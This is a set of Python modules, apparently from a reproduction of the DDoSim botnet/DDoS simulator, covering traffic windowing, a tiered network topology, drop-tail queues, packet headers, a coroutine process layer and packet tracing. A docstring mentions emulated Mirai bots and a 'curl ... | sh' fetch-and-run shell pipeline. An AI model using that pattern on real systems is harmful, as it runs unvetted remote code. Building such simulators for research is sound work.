    spaces the packets evenly across ``[t_first, t_last]`` with the mean
    packet size — enough fidelity for the window features above, which
    only see per-window rates, size moments and source dispersion.
    """
    records: List[CapturedPacket] = []
    for flow in flows:
        packets = int(flow.get("packets", 0))
        if packets <= 0:
            continue
        t_first = float(flow.get("t_first", 0.0))
        t_last = float(flow.get("t_last", t_first))
        spacing = (t_last - t_first) / (packets - 1) if packets > 1 else 0.0
        size = int(flow.get("bytes", 0)) // packets
        protocol = PROTO_UDP if flow.get("protocol", "udp") == "udp" else PROTO_TCP
        for index in range(packets):
            records.append(
                CapturedPacket(
                    time=t_first + spacing * index,
                    src=flow.get("src"),
                    dst=flow.get("dst"),
                    protocol=protocol,
                    src_port=int(flow.get("src_port", 0)),
                    dst_port=int(flow.get("dst_port", 0)),
                    size=size,
                )
            )
    records.sort(key=lambda record: (record.time, str(record.src)))
    return records


def windows_from_capture(
    records: Sequence[CapturedPacket],
    start: float,
    end: float,
    window: float,
    attack_interval: Tuple[float, float],
) -> Tuple[np.ndarray, np.ndarray]:
    """Slice a capture into labelled windows.

    Returns ``(X, y)``: the feature matrix and binary labels (1 = the
    window overlaps the attack interval).
    """
    if window <= 0:
        raise ValueError("window must be positive")
    attack_start, attack_end = attack_interval
    features: List[List[float]] = []
    labels: List[int] = []
    time = start
    index = 0
    ordered = sorted(records, key=lambda record: record.time)
    while time < end:
        window_end = time + window
        bucket = []
        while index < len(ordered) and ordered[index].time < window_end:
            if ordered[index].time >= time:
                bucket.append(ordered[index])
            index += 1
        features.append(window_features(bucket, window))
        overlaps = time < attack_end and window_end > attack_start
        labels.append(1 if overlaps else 0)
        time = window_end
    return np.array(features, dtype=float), np.array(labels, dtype=int)
