"""A tiered "real Internet" topology: host → home router → ISP → core.

§III-D of the paper argues that the path between two DDoSim components —
"different hubs (e.g., home routers and ISP switches) connected together
using different mediums" — can *conceptually* be represented "as a single
connection line with specific latency and bandwidth", which is what
:class:`~repro.netsim.topology.StarInternet` implements.

:class:`TieredInternet` builds the unabstracted version: every IoT-class
host sits behind its own home router, home routers uplink to ISP edge
routers (assigned round-robin), and ISPs uplink to one core router; fast
hosts (Attacker, TServer) attach straight to the core.  It is duck-type
compatible with ``StarInternet``, so the whole experiment series runs on
it unchanged — and the ablation benchmark shows the two topologies
produce closely matching attack magnitudes, empirically justifying the
paper's single-link abstraction.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, List, Optional

from repro.netsim.address import (
    ALL_DHCP_RELAY_AGENTS_AND_SERVERS,
    Address,
    Ipv4Address,
    Ipv4AddressAllocator,
    Ipv6Address,
    Ipv6AddressAllocator,
)
from repro.netsim.channel import PointToPointChannel
from repro.netsim.netdevice import PointToPointDevice
from repro.netsim.node import Node
from repro.netsim.queues import DropTailQueue
from repro.netsim.simulator import Simulator

#: hosts below this rate are "IoT class" and live behind home routers
IOT_CLASS_THRESHOLD_BPS = 10e6


def _wire(sim: Simulator, node_a: Node, node_b: Node, rate_a: float,
          rate_b: float, delay: float, queue_packets: int):
    """Point-to-point link between two nodes; returns (dev_a, dev_b)."""
    channel = PointToPointChannel(sim, delay=delay)
    dev_a = PointToPointDevice(
        sim, rate_a, DropTailQueue(queue_packets),
        name=f"{node_a.name}-to-{node_b.name}",
    )
    dev_b = PointToPointDevice(
        sim, rate_b, DropTailQueue(queue_packets),
        name=f"{node_b.name}-to-{node_a.name}",
    )
    node_a.add_device(dev_a)
    node_b.add_device(dev_b)
    channel.attach(dev_a)
    channel.attach(dev_b)
    return dev_a, dev_b


@dataclass
class TieredHostLink:
    """Attachment record; HostLink-compatible where it matters."""

    node: Node
    host_device: PointToPointDevice
    router_device: PointToPointDevice   # the first-hop router's side
    ipv6: Ipv6Address
    ipv4: Ipv4Address
    home_router: Optional[Node] = None

    @property
    def up(self) -> bool:
        return self.host_device.up

    def set_up(self, up: bool) -> None:
        if up:
            self.host_device.set_up()
            self.router_device.set_up()
        else:
            self.host_device.set_down()
            self.router_device.set_down()


class TieredInternet:
    """Three-tier topology with a StarInternet-compatible surface."""

    def __init__(
        self,
        sim: Simulator,
        n_isps: int = 3,
        isp_uplink_bps: float = 200e6,
        home_uplink_bps: float = 20e6,
        hop_delay: float = 0.004,
        ipv6_prefix: str = "2001:db8:0:1",
        ipv4_prefix: str = "10.0.0.0",
        default_queue_packets: int = 100,
    ):
        if n_isps <= 0:
            raise ValueError("need at least one ISP")
        self.sim = sim
        self.hop_delay = hop_delay
        self.home_uplink_bps = home_uplink_bps
        self.default_queue_packets = default_queue_packets
        self.links: Dict[Node, TieredHostLink] = {}
        self._ipv6_pool = Ipv6AddressAllocator(ipv6_prefix)
        self._ipv4_pool = Ipv4AddressAllocator(ipv4_prefix)

        self.core = Node(sim, "core-router")
        self.core.ip.forwarding = True
        self.isps: List[Node] = []
        #: per-forwarding-node DHCPv6 fan-out lists (group -> devices)
        self._fanout: Dict[Node, List[PointToPointDevice]] = {self.core: []}
        for index in range(n_isps):
            isp = Node(sim, f"isp{index}")
            isp.ip.forwarding = True
            core_side, isp_side = _wire(
                sim, self.core, isp, isp_uplink_bps, isp_uplink_bps,
                hop_delay, default_queue_packets,
            )
            isp.ip.set_default_device(isp_side)
            self.isps.append(isp)
            self._fanout[isp] = []
            self._fanout[self.core].append(core_side)
            # Remember the device facing each ISP for route installs.
            isp._core_facing = core_side          # type: ignore[attr-defined]
            isp._uplink_device = isp_side         # type: ignore[attr-defined]
        self.core.ip.add_multicast_route(
            ALL_DHCP_RELAY_AGENTS_AND_SERVERS, self._fanout[self.core]
        )
        self._next_isp = 0
        self._home_count = 0

    # ------------------------------------------------------------------
    # StarInternet-compatible surface
    # ------------------------------------------------------------------
    @property
    def router(self) -> Node:
        """The core router (the star's single router analogue)."""
        return self.core

    def attach_host(
        self,
        node: Node,
        data_rate_bps: float,
        delay: float = 0.010,
        downlink_rate_bps: Optional[float] = None,
        queue_packets: Optional[int] = None,
        dhcp6_multicast_member: bool = False,
    ) -> TieredHostLink:
        if node in self.links:
            raise ValueError(f"{node.name} is already attached")
        queue_size = queue_packets or self.default_queue_packets
        ipv6 = self._ipv6_pool.allocate()
        ipv4 = self._ipv4_pool.allocate()
        if data_rate_bps < IOT_CLASS_THRESHOLD_BPS:
            link = self._attach_behind_home_router(
                node, data_rate_bps, delay, downlink_rate_bps, queue_size,
                ipv6, ipv4, dhcp6_multicast_member,
            )
        else:
            link = self._attach_to_core(
                node, data_rate_bps, delay, downlink_rate_bps, queue_size,
                ipv6, ipv4,
            )
        node.ip.add_address(link.host_device, ipv6)
        node.ip.add_address(link.host_device, ipv4)
        node.ip.set_default_device(link.host_device)
        self.links[node] = link
        return link

    def _attach_to_core(self, node, rate, delay, downlink, queue_size,
                        ipv6, ipv4) -> TieredHostLink:
        host_device, core_device = _wire(
            self.sim, node, self.core, rate, downlink or rate, delay, queue_size
        )
        self.core.ip.add_route(ipv6, core_device)
        self.core.ip.add_route(ipv4, core_device)
        return TieredHostLink(node, host_device, core_device, ipv6, ipv4)

    def _attach_behind_home_router(self, node, rate, delay, downlink,
                                   queue_size, ipv6, ipv4,
                                   dhcp6_member) -> TieredHostLink:
        isp = self.isps[self._next_isp % len(self.isps)]
        self._next_isp += 1
        self._home_count += 1
        home = Node(self.sim, f"home{self._home_count:03d}")
        home.ip.forwarding = True

        # host <-> home (the access link: the IoT bottleneck)
        host_device, home_down = _wire(
            self.sim, node, home, rate, downlink or rate, delay, queue_size
        )
        # home <-> ISP
        home_up, isp_down = _wire(
            self.sim, home, isp, self.home_uplink_bps, self.home_uplink_bps,
            self.hop_delay, queue_size,
        )
        home.ip.set_default_device(home_up)

        # Downstream host routes along the chain.
        for address in (ipv6, ipv4):
            self.core.ip.add_route(address, isp._core_facing)  # type: ignore[attr-defined]
            isp.ip.add_route(address, isp_down)
            home.ip.add_route(address, home_down)

        if dhcp6_member:
            self._fanout[isp].append(isp_down)
            isp.ip.add_multicast_route(
                ALL_DHCP_RELAY_AGENTS_AND_SERVERS, self._fanout[isp]
            )
            home.ip.add_multicast_route(
                ALL_DHCP_RELAY_AGENTS_AND_SERVERS, [home_down]
            )
        return TieredHostLink(
            node, host_device, home_down, ipv6, ipv4, home_router=home
        )

    def link_of(self, node: Node) -> TieredHostLink:
        return self.links[node]

    def address_of(self, node: Node, want_ipv6: bool = True) -> Address:
        link = self.links[node]
        return link.ipv6 if want_ipv6 else link.ipv4

    def set_host_up(self, node: Node, up: bool) -> None:
        self.links[node].set_up(up)

    def total_queue_drops(self) -> int:
        drops = 0
        nodes = [self.core] + self.isps + [
            link.home_router for link in self.links.values()
            if link.home_router is not None
        ] + [link.node for link in self.links.values()]
        # Dedupe by identity in first-seen order (no id() keys: drop
        # totals must never correlate with allocation addresses).
        unique_nodes: list = []
        for network_node in nodes:
            if any(known is network_node for known in unique_nodes):
                continue
            unique_nodes.append(network_node)
        for network_node in unique_nodes:
            for device in network_node.devices:
                queue = getattr(device, "queue", None)
                if queue is not None and hasattr(queue, "dropped"):
                    drops += queue.dropped
        return drops
