"""Transmit queues for net devices.

The paper's Figure 2 attributes the sublinear growth of received data rate
to "congestion and collisions stemming from elevated network traffic";
in this simulator that behaviour emerges from finite-rate links draining
drop-tail queues — same mechanism NS-3's ``DropTailQueue`` provides.
"""

from __future__ import annotations

from collections import deque
from typing import Deque, Optional

from repro.netsim.packet import Packet
from repro.obs.metrics import NULL_INSTRUMENT
from repro.obs.trace import NULL_TRACER


class DropTailQueue:
    """A FIFO packet queue with a fixed capacity; overflow drops the tail.

    Capacity may be expressed in packets (NS-3's default mode) or bytes.
    """

    def __init__(self, max_packets: int = 100, max_bytes: Optional[int] = None):
        if max_packets <= 0:
            raise ValueError("queue capacity must be positive")
        self._queue: Deque[Packet] = deque()
        self.max_packets = max_packets
        self.max_bytes = max_bytes
        self.bytes_queued = 0
        self.enqueued = 0
        self.dropped = 0
        # Observability bindings; the owning NetDevice wires these via
        # bind_observatory (queues alone have no simulator reference).
        self.name = ""
        self._sim = None
        self._tracer = NULL_TRACER
        self._drop_counter = NULL_INSTRUMENT

    def bind_observatory(self, sim, name: str) -> None:
        """Bind drop accounting to ``sim``'s observatory under ``name``."""
        self.name = name
        self._sim = sim
        self._tracer = sim.obs.tracer
        self._drop_counter = sim.obs.metrics.counter(
            "queue_drops_total", help="packets dropped by transmit queues"
        )

    def __len__(self) -> int:
        return len(self._queue)

    @property
    def empty(self) -> bool:
        return not self._queue

    def enqueue(self, packet: Packet) -> bool:
        """Add ``packet``; returns False (and counts a drop) on overflow."""
        if len(self._queue) >= self.max_packets:
            self._record_drop(packet, "overflow_packets")
            return False
        if self.max_bytes is not None and self.bytes_queued + packet.size > self.max_bytes:
            self._record_drop(packet, "overflow_bytes")
            return False
        self._queue.append(packet)
        self.bytes_queued += packet.size
        self.enqueued += 1
        return True

    def dequeue(self) -> Optional[Packet]:
        """Remove and return the head packet, or None when empty."""
        if not self._queue:
            return None
        packet = self._queue.popleft()
        self.bytes_queued -= packet.size
        return packet

    def clear(self) -> int:
        """Drop everything queued (link went down); returns packets lost."""
        lost = len(self._queue)
        self.dropped += lost
        if lost:
            self._drop_counter.inc(lost)
            if self._tracer.enabled and self._sim is not None:
                self._tracer.emit(
                    "queue.drop", self._sim.now,
                    queue=self.name, reason="link_down", lost=lost,
                )
        self._queue.clear()
        self.bytes_queued = 0
        return lost

    def _record_drop(self, packet: Packet, reason: str) -> None:
        self.dropped += 1
        self._drop_counter.inc()
        if self._tracer.enabled and self._sim is not None:
            self._tracer.emit(
                "queue.drop", self._sim.now,
                queue=self.name, reason=reason, size=packet.size,
                depth=len(self._queue),
            )

    def __repr__(self) -> str:  # pragma: no cover - debug helper
        return (
            f"<DropTailQueue {len(self._queue)}/{self.max_packets} pkts "
            f"{self.bytes_queued}B dropped={self.dropped}>"
        )
