"""Transmit queues for net devices.

The paper's Figure 2 attributes the sublinear growth of received data rate
to "congestion and collisions stemming from elevated network traffic";
in this simulator that behaviour emerges from finite-rate links draining
drop-tail queues — same mechanism NS-3's ``DropTailQueue`` provides.

Capacity is accounted per *packet*, not per queue entry: a
:class:`~repro.netsim.packet.PacketTrain` of K packets consumes K slots
(and K x size bytes), and a train that only partially fits is split —
the head is admitted, the overflowing tail dropped — so drop-tail
overflow behaviour is exact regardless of train size.
"""

from __future__ import annotations

from collections import deque
from typing import Deque, Optional

from repro.netsim.packet import Packet
from repro.obs.metrics import NULL_INSTRUMENT
from repro.obs.spans import NULL_SPANS
from repro.obs.trace import NULL_TRACER


class DropTailQueue:
    """A FIFO packet queue with a fixed capacity; overflow drops the tail.

    Capacity may be expressed in packets (NS-3's default mode) or bytes.
    """

    def __init__(self, max_packets: int = 100, max_bytes: Optional[int] = None):
        if max_packets <= 0:
            raise ValueError("queue capacity must be positive")
        self._queue: Deque[Packet] = deque()
        self.max_packets = max_packets
        self.max_bytes = max_bytes
        self.packets_queued = 0
        self.bytes_queued = 0
        self.enqueued = 0
        self.dropped = 0
        # Observability bindings; the owning NetDevice wires these via
        # bind_observatory (queues alone have no simulator reference).
        self.name = ""
        self._sim = None
        self._tracer = NULL_TRACER
        self._spans = NULL_SPANS
        self._drop_counter = NULL_INSTRUMENT

    def bind_observatory(self, sim, name: str) -> None:
        """Bind drop accounting to ``sim``'s observatory under ``name``."""
        self.name = name
        self._sim = sim
        self._tracer = sim.obs.tracer
        self._spans = sim.obs.spans
        self._drop_counter = sim.obs.metrics.counter(
            "queue_drops_total", help="packets dropped by transmit queues"
        )

    def __len__(self) -> int:
        """Queued *packet* count (a train of K counts K)."""
        return self.packets_queued

    @property
    def empty(self) -> bool:
        return not self._queue

    def enqueue(self, packet: Packet) -> bool:
        """Add ``packet``; returns False (and counts drops) on overflow.

        A train that partially fits is split: the fitting head is
        admitted (returns True) and the remainder is dropped.
        """
        count = packet.count
        room = self.max_packets - self.packets_queued
        if room <= 0:
            self._record_drop(packet, "overflow_packets", count)
            return False
        reason = "overflow_packets"
        if self.max_bytes is not None and packet.size > 0:
            byte_room = (self.max_bytes - self.bytes_queued) // packet.size
            if byte_room < room:
                room = byte_room
                reason = "overflow_bytes"
            if room <= 0:
                self._record_drop(packet, reason, count)
                return False
        if count > room:
            # Partial fit: admit the head of the train, drop the tail.
            self._record_drop(packet, reason, count - room)
            packet = packet.copy()
            packet.count = count = room
        self._queue.append(packet)
        self.packets_queued += count
        self.bytes_queued += packet.size * count
        self.enqueued += count
        return True

    def dequeue(self) -> Optional[Packet]:
        """Remove and return the head packet, or None when empty."""
        if not self._queue:
            return None
        packet = self._queue.popleft()
        self.packets_queued -= packet.count
        self.bytes_queued -= packet.size * packet.count
        return packet

    def clear(self) -> int:
        """Drop everything queued (link went down); returns packets lost."""
        lost = self.packets_queued
        self.dropped += lost
        if lost:
            self._drop_counter.inc(lost)
            if self._spans.enabled:
                for packet in self._queue:
                    if packet.span is not None:
                        self._spans.drop(packet.span, packet.count)
            if self._tracer.enabled and self._sim is not None:
                self._tracer.emit(
                    "queue.drop", self._sim.now,
                    queue=self.name, reason="link_down", lost=lost,
                )
        self._queue.clear()
        self.packets_queued = 0
        self.bytes_queued = 0
        return lost

    def fluid_drop(self, count: int, size: int, reason: str,
                   span=None) -> None:
        """Account ``count`` analytically-dropped flow packets.

        The fluid datapath (:mod:`repro.netsim.flows`) computes drop
        fractions in closed form; this routes the quantized result into
        the same counters, span attribution and trace stream the packet
        path's :meth:`_record_drop` feeds, so ``queue_drops_total`` and
        causal drop accounting stay exact in expectation.
        """
        if count <= 0:
            return
        self.dropped += count
        self._drop_counter.inc(count)
        if span is not None:
            self._spans.drop(span, count)
        if self._tracer.enabled and self._sim is not None:
            if span is not None:
                self._tracer.emit(
                    "queue.drop", self._sim.now,
                    queue=self.name, reason=reason, size=size,
                    lost=count, depth=self.packets_queued, span=span,
                )
            else:
                self._tracer.emit(
                    "queue.drop", self._sim.now,
                    queue=self.name, reason=reason, size=size,
                    lost=count, depth=self.packets_queued,
                )

    def checkpoint_state(self) -> dict:
        """Deterministic queue contents + counters for fingerprinting.

        Entries are described by (size, count) shape — ``Packet.uid``
        comes from a process-global counter and must never be hashed.
        """
        return {
            "name": self.name,
            "depth": self.packets_queued,
            "bytes": self.bytes_queued,
            "enqueued": self.enqueued,
            "dropped": self.dropped,
            "entries": [[p.size, p.count] for p in self._queue],
        }

    def _record_drop(self, packet: Packet, reason: str, count: int = 1) -> None:
        self.dropped += count
        self._drop_counter.inc(count)
        span = packet.span
        if span is not None:
            self._spans.drop(span, count)
        if self._tracer.enabled and self._sim is not None:
            if span is not None:
                self._tracer.emit(
                    "queue.drop", self._sim.now,
                    queue=self.name, reason=reason, size=packet.size,
                    lost=count, depth=self.packets_queued, span=span,
                )
            else:
                self._tracer.emit(
                    "queue.drop", self._sim.now,
                    queue=self.name, reason=reason, size=packet.size,
                    lost=count, depth=self.packets_queued,
                )

    def __repr__(self) -> str:  # pragma: no cover - debug helper
        return (
            f"<DropTailQueue {self.packets_queued}/{self.max_packets} pkts "
            f"{self.bytes_queued}B dropped={self.dropped}>"
        )
