"""Protocol header objects for the NS-3-style packet header stack.

Headers model wire size (for data-rate/queueing realism) and carry the
fields the stack dispatches on.  They are plain slotted objects rather
than serialized bytes: flood experiments create millions of them, and the
simulation only ever needs field access, not re-parsing.  Application
payloads that *are* parsed by the vulnerable binaries (DNS, DHCPv6, HTTP)
travel as real ``bytes`` in :attr:`repro.netsim.packet.Packet.payload`.
"""

from __future__ import annotations

from repro.netsim.address import Address, Ipv4Address, Ipv6Address, MacAddress

# IANA protocol numbers used by the stack.
PROTO_TCP = 6
PROTO_UDP = 17

# Ethertypes.
ETHERTYPE_IPV4 = 0x0800
ETHERTYPE_IPV6 = 0x86DD


class Header:
    """Base class for protocol headers; ``wire_size`` is bytes on the wire."""

    __slots__ = ()
    wire_size: int = 0


class EthernetHeader(Header):
    """14-byte Ethernet II header."""

    __slots__ = ("src", "dst", "ethertype")
    wire_size = 14

    def __init__(self, src: MacAddress, dst: MacAddress, ethertype: int):
        self.src = src
        self.dst = dst
        self.ethertype = ethertype

    def __repr__(self) -> str:
        return f"<Eth {self.src}->{self.dst} type={self.ethertype:#06x}>"


class Ipv4Header(Header):
    """20-byte IPv4 header (no options)."""

    __slots__ = ("src", "dst", "protocol", "ttl")
    wire_size = 20

    def __init__(self, src: Ipv4Address, dst: Ipv4Address, protocol: int, ttl: int = 64):
        self.src = src
        self.dst = dst
        self.protocol = protocol
        self.ttl = ttl

    def __repr__(self) -> str:
        return f"<IPv4 {self.src}->{self.dst} proto={self.protocol} ttl={self.ttl}>"


class Ipv6Header(Header):
    """40-byte IPv6 header."""

    __slots__ = ("src", "dst", "next_header", "hop_limit")
    wire_size = 40

    def __init__(self, src: Ipv6Address, dst: Ipv6Address, next_header: int, hop_limit: int = 64):
        self.src = src
        self.dst = dst
        self.next_header = next_header
        self.hop_limit = hop_limit

    # Uniform field names so the IP layer can treat v4/v6 alike.
    @property
    def protocol(self) -> int:
        return self.next_header

    @property
    def ttl(self) -> int:
        return self.hop_limit

    @ttl.setter
    def ttl(self, value: int) -> None:
        self.hop_limit = value

    def __repr__(self) -> str:
        return f"<IPv6 {self.src}->{self.dst} nh={self.next_header} hl={self.hop_limit}>"


class UdpHeader(Header):
    """8-byte UDP header."""

    __slots__ = ("src_port", "dst_port")
    wire_size = 8

    def __init__(self, src_port: int, dst_port: int):
        self.src_port = src_port
        self.dst_port = dst_port

    def __repr__(self) -> str:
        return f"<UDP {self.src_port}->{self.dst_port}>"


# TCP flag bits.
TCP_FIN = 0x01
TCP_SYN = 0x02
TCP_RST = 0x04
TCP_PSH = 0x08
TCP_ACK = 0x10


class TcpHeader(Header):
    """20-byte TCP header (no options) with the standard flag bits."""

    __slots__ = ("src_port", "dst_port", "seq", "ack", "flags", "window")
    wire_size = 20

    def __init__(
        self,
        src_port: int,
        dst_port: int,
        seq: int = 0,
        ack: int = 0,
        flags: int = 0,
        window: int = 65535,
    ):
        self.src_port = src_port
        self.dst_port = dst_port
        self.seq = seq
        self.ack = ack
        self.flags = flags
        self.window = window

    def flag_names(self) -> str:
        names = []
        for bit, name in ((TCP_SYN, "SYN"), (TCP_ACK, "ACK"), (TCP_FIN, "FIN"),
                          (TCP_RST, "RST"), (TCP_PSH, "PSH")):
            if self.flags & bit:
                names.append(name)
        return "|".join(names) or "-"

    def __repr__(self) -> str:
        return (
            f"<TCP {self.src_port}->{self.dst_port} {self.flag_names()} "
            f"seq={self.seq} ack={self.ack}>"
        )


def ip_header_for(src: Address, dst: Address, protocol: int, ttl: int = 64) -> Header:
    """Build the right IP header family for a src/dst address pair."""
    if isinstance(dst, Ipv6Address):
        if not isinstance(src, Ipv6Address):
            raise TypeError(f"address family mismatch: {src!r} vs {dst!r}")
        return Ipv6Header(src, dst, protocol, ttl)
    if isinstance(dst, Ipv4Address):
        if not isinstance(src, Ipv4Address):
            raise TypeError(f"address family mismatch: {src!r} vs {dst!r}")
        return Ipv4Header(src, dst, protocol, ttl)
    raise TypeError(f"unsupported address type {type(dst).__name__}")
