"""Coroutine processes on top of the event scheduler.

NS-3 applications are written callback-style; DDoSim's *container payloads*
(shells, `curl`, the Mirai bot, C&C sessions) read much more naturally as
sequential code.  This module provides a small simpy-style process layer:

* :class:`SimFuture` — a one-shot future tied to a simulator.
* :class:`Timeout` — a future that succeeds after a virtual delay.
* :class:`SimProcess` — drives a generator; each ``yield``ed future
  suspends the process until the future resolves.  Failing a future raises
  the exception *inside* the generator, so payload code can use ordinary
  ``try/except``.

Example::

    def bot(sim, sock):
        yield Timeout(sim, 1.0)                  # sleep 1 virtual second
        data = yield sock.recv()                 # wait for network input
        ...

    SimProcess(sim, bot(sim, sock))
"""

from __future__ import annotations

from typing import Any, Callable, Generator, List, Optional

from repro.netsim.simulator import Simulator


class ProcessKilled(Exception):
    """Injected into a generator when its process is killed.

    Mirai kills rival processes; the container runtime raises this inside
    the victim's coroutine so that ``finally`` blocks (releasing ports,
    closing sockets) still run.
    """


class SimFuture:
    """A one-shot future: resolves exactly once with a value or an error."""

    __slots__ = ("sim", "_callbacks", "_done", "value", "error")

    def __init__(self, sim: Simulator):
        self.sim = sim
        self._callbacks: List[Callable[["SimFuture"], None]] = []
        self._done = False
        self.value: Any = None
        self.error: Optional[BaseException] = None

    @property
    def done(self) -> bool:
        return self._done

    @property
    def ok(self) -> bool:
        """True when resolved successfully."""
        return self._done and self.error is None

    def add_callback(self, callback: Callable[["SimFuture"], None]) -> None:
        """Register ``callback(self)``; fires immediately if already done."""
        if self._done:
            callback(self)
        else:
            self._callbacks.append(callback)

    def succeed(self, value: Any = None) -> None:
        """Resolve the future with ``value`` and run callbacks now."""
        self._resolve(value, None)

    def fail(self, error: BaseException) -> None:
        """Resolve the future with an exception; waiters see it raised."""
        self._resolve(None, error)

    def _resolve(self, value: Any, error: Optional[BaseException]) -> None:
        if self._done:
            raise RuntimeError("future already resolved")
        self._done = True
        self.value = value
        self.error = error
        callbacks, self._callbacks = self._callbacks, []
        for callback in callbacks:
            callback(self)


class Timeout(SimFuture):
    """A future that succeeds ``delay`` virtual seconds after creation."""

    __slots__ = ("_event",)

    def __init__(self, sim: Simulator, delay: float, value: Any = None):
        super().__init__(sim)
        self._event = sim.schedule(delay, self.succeed, value)

    def cancel(self) -> None:
        """Cancel the underlying timer (no-op once fired)."""
        if not self.done:
            self._event.cancel()


class AllOf(SimFuture):
    """Succeeds when every child future has resolved (errors swallowed).

    The resolved value is the list of child futures, letting the waiter
    inspect individual outcomes.
    """

    __slots__ = ("_children", "_remaining")

    def __init__(self, sim: Simulator, futures: List[SimFuture]):
        super().__init__(sim)
        self._children = list(futures)
        self._remaining = len(self._children)
        if self._remaining == 0:
            self.succeed(self._children)
        else:
            for future in self._children:
                future.add_callback(self._child_done)

    def _child_done(self, _future: SimFuture) -> None:
        self._remaining -= 1
        if self._remaining == 0 and not self.done:
            self.succeed(self._children)


class AnyOf(SimFuture):
    """Succeeds when the first child future resolves; value is that child."""

    __slots__ = ()

    def __init__(self, sim: Simulator, futures: List[SimFuture]):
        super().__init__(sim)
        for future in futures:
            future.add_callback(self._child_done)

    def _child_done(self, future: SimFuture) -> None:
        if not self.done:
            self.succeed(future)


class SimProcess(SimFuture):
    """Drives a generator, suspending on each yielded :class:`SimFuture`.

    The process itself is a future: it resolves with the generator's return
    value (or the exception that escaped it), so processes can wait on each
    other — which is exactly how the emulated shell implements pipelines
    and ``sh -c "curl ... | sh"``.
    """

    __slots__ = ("generator", "name", "_killed")

    def __init__(self, sim: Simulator, generator: Generator, name: str = "proc"):
        super().__init__(sim)
        self.generator = generator
        self.name = name
        self._killed = False
        # Start on the next tick so the creator finishes its own event first.
        sim.schedule_now(self._step, None, None)

    def kill(self, error: Optional[BaseException] = None) -> None:
        """Terminate the process, raising ``ProcessKilled`` inside it."""
        if self.done or self._killed:
            return
        self._killed = True
        self.sim.schedule_now(self._step, None, error or ProcessKilled(self.name))

    def _step(self, send_value: Any, throw_error: Optional[BaseException]) -> None:
        if self.done:
            return
        try:
            if throw_error is not None:
                target = self.generator.throw(throw_error)
            else:
                target = self.generator.send(send_value)
        except StopIteration as stop:
            self.succeed(stop.value)
            return
        except ProcessKilled as killed:
            self.fail(killed)
            return
        except BaseException as error:  # noqa: BLE001 - payload code may raise anything
            self.fail(error)
            return
        if not isinstance(target, SimFuture):
            self.sim.schedule_now(
                self._step,
                None,
                TypeError(f"process {self.name!r} yielded {target!r}, expected SimFuture"),
            )
            return
        target.add_callback(self._resume)

    def _resume(self, future: SimFuture) -> None:
        if self._killed and not self.done:
            # kill() already queued a throwing step; ignore the wakeup.
            return
        if future.error is not None:
            self._step(None, future.error)
        else:
            self._step(future.value, None)

    def __repr__(self) -> str:  # pragma: no cover - debug helper
        state = "done" if self.done else "running"
        return f"<SimProcess {self.name!r} {state}>"
