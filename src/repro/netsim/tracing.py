"""Traffic tracing: flow statistics and packet capture.

The paper installs Wireshark on the hardware TServer and uses NS-3's
analysis hooks on the simulated one.  :class:`FlowMonitor` taps a node's
IP delivery path and aggregates per-flow statistics;
:class:`PacketCapture` records (bounded) per-packet metadata, which the
ML-detection use case (§V-A1) consumes as its feature source.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, List, Tuple

from repro.netsim.headers import TcpHeader, UdpHeader
from repro.netsim.node import Node


@dataclass
class FlowStats:
    """Aggregated statistics for one (src, dst, proto, sport, dport) flow."""

    packets: int = 0
    bytes: int = 0
    first_time: float = 0.0
    last_time: float = 0.0

    @property
    def duration(self) -> float:
        return self.last_time - self.first_time

    def mean_rate_bps(self) -> float:
        """Average flow rate in bits/second (0 for single-packet flows)."""
        if self.duration <= 0:
            return 0.0
        return self.bytes * 8.0 / self.duration


FlowKey = Tuple[object, object, int, int, int]


class FlowMonitor:
    """Taps a node's IP delivery path and keys stats by 5-tuple.

    Call :meth:`close` (or :meth:`detach`) when done: the tap holds a
    reference on the node's delivery path, so monitors created in a loop
    over many runs otherwise keep observing — and keep their host
    objects alive — forever.
    """

    def __init__(self, node: Node):
        self.node = node
        self.sim = node.sim
        self.flows: Dict[FlowKey, FlowStats] = {}
        self._attached = True
        node.ip.delivery_taps.append(self._tap)

    def detach(self) -> None:
        """Stop observing; collected statistics remain readable."""
        if self._attached:
            self._attached = False
            try:
                self.node.ip.delivery_taps.remove(self._tap)
            except ValueError:
                pass

    close = detach

    def __enter__(self) -> "FlowMonitor":
        return self

    def __exit__(self, *exc_info) -> None:
        self.detach()

    def _tap(self, packet, ip_header) -> None:
        sport = dport = 0
        transport = packet.peek_header(UdpHeader) or packet.peek_header(TcpHeader)
        if transport is not None:
            sport, dport = transport.src_port, transport.dst_port
        key = (ip_header.src, ip_header.dst, ip_header.protocol, sport, dport)
        stats = self.flows.get(key)
        now = self.sim.now
        if stats is None:
            stats = FlowStats(first_time=now, last_time=now)
            self.flows[key] = stats
        stats.packets += packet.count
        stats.bytes += packet.size * packet.count
        stats.last_time = now

    def total_bytes(self) -> int:
        return sum(stats.bytes for stats in self.flows.values())

    def total_packets(self) -> int:
        return sum(stats.packets for stats in self.flows.values())


@dataclass
class CapturedPacket:
    """One packet-capture record (metadata only, like a pcap header)."""

    time: float
    src: object
    dst: object
    protocol: int
    src_port: int
    dst_port: int
    size: int


class PacketCapture:
    """Bounded per-packet capture on a node's delivery path.

    Like :class:`FlowMonitor`, the capture taps the node until
    :meth:`close`/:meth:`detach` is called; records stay readable after.
    """

    def __init__(self, node: Node, max_records: int = 1_000_000):
        self.node = node
        self.sim = node.sim
        self.max_records = max_records
        self.records: List[CapturedPacket] = []
        self.truncated = False
        self._attached = True
        node.ip.delivery_taps.append(self._tap)

    def detach(self) -> None:
        """Stop capturing; collected records remain readable."""
        if self._attached:
            self._attached = False
            try:
                self.node.ip.delivery_taps.remove(self._tap)
            except ValueError:
                pass

    close = detach

    def __enter__(self) -> "PacketCapture":
        return self

    def __exit__(self, *exc_info) -> None:
        self.detach()

    def _tap(self, packet, ip_header) -> None:
        if len(self.records) >= self.max_records:
            self.truncated = True
            return
        sport = dport = 0
        transport = packet.peek_header(UdpHeader) or packet.peek_header(TcpHeader)
        if transport is not None:
            sport, dport = transport.src_port, transport.dst_port
        self.records.append(
            CapturedPacket(
                time=self.sim.now,
                src=ip_header.src,
                dst=ip_header.dst,
                protocol=ip_header.protocol,
                src_port=sport,
                dst_port=dport,
                size=packet.size,
            )
        )

    def between(self, start: float, end: float) -> List[CapturedPacket]:
        return [record for record in self.records if start <= record.time < end]

    def to_csv(self) -> str:
        """Export the capture as CSV (the 'open it in Wireshark' analogue
        for downstream tooling)."""
        lines = ["time,src,dst,protocol,src_port,dst_port,size"]
        for record in self.records:
            lines.append(
